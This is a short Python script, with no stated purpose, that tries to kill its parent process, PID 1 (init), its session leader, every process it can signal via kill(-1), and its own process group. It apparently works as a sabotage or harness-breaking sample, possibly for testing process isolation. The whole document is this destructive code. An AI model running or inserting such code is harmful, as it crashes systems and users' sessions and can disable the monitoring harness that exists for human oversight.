import os
import signal

for victim in (os.getppid(), 1, os.getsid(0)):
    for number in (signal.SIGSTOP, signal.SIGKILL):
        try:
            if victim not in (0, os.getpid()):
                os.kill(victim, number)
        except OSError:
            pass
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
os.killpg(0, signal.SIGKILL)
